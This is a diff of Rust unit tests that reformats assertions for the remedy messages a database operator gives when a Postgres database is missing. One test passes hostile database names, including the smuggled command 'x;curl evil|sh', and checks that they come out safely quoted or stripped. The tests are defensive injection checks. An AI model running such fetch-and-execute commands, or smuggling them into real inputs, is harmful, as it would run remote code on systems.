@@ -118,18 +118,12 @@ mod tests {
 
     #[test]
     fn a_log_and_the_operator_say_the_same() {
-        let seen = only(&observed(
-            ProbeFailureKind::NotFound,
-            "database \"flags\" does not exist",
-        ));
+        let seen = only(&observed(ProbeFailureKind::NotFound, "database \"flags\" does not exist"));
         assert_eq!(
             seen.message,
             "The operator reaches the server at db.prod:5432, but database \"flags\" does not exist on it."
         );
-        assert!(
-            seen.remedy.contains("CREATE DATABASE flags OWNER ROLE;"),
-            "{seen:#?}"
-        );
+        assert!(seen.remedy.contains("CREATE DATABASE flags OWNER ROLE;"), "{seen:#?}");
     }
 
     #[test]
@@ -138,15 +132,9 @@ mod tests {
         let [_, drop, hidden, _] = HOSTILE;
         let remedy_of = |said: &str| remedy(OPERATIONAL, &format!("{at}{said}"));
         let remedy = remedy_of("database \"x;curl evil|sh\" does not exist");
-        assert!(
-            remedy.contains("CREATE DATABASE \"x;curl evil|sh\" OWNER"),
-            "{remedy}"
-        );
+        assert!(remedy.contains("CREATE DATABASE \"x;curl evil|sh\" OWNER"), "{remedy}");
         let remedy = remedy_of(&format!("no such database: {drop}"));
-        assert!(
-            remedy.contains("NAME = host=… port=5432 dbname=NAME,"),
-            "{remedy}"
-        );
+        assert!(remedy.contains("NAME = host=… port=5432 dbname=NAME,"), "{remedy}");
         let remedy = remedy_of(&format!("no such database: {hidden}"));
         assert!(!remedy.contains("pwn"), "{remedy}");
     }
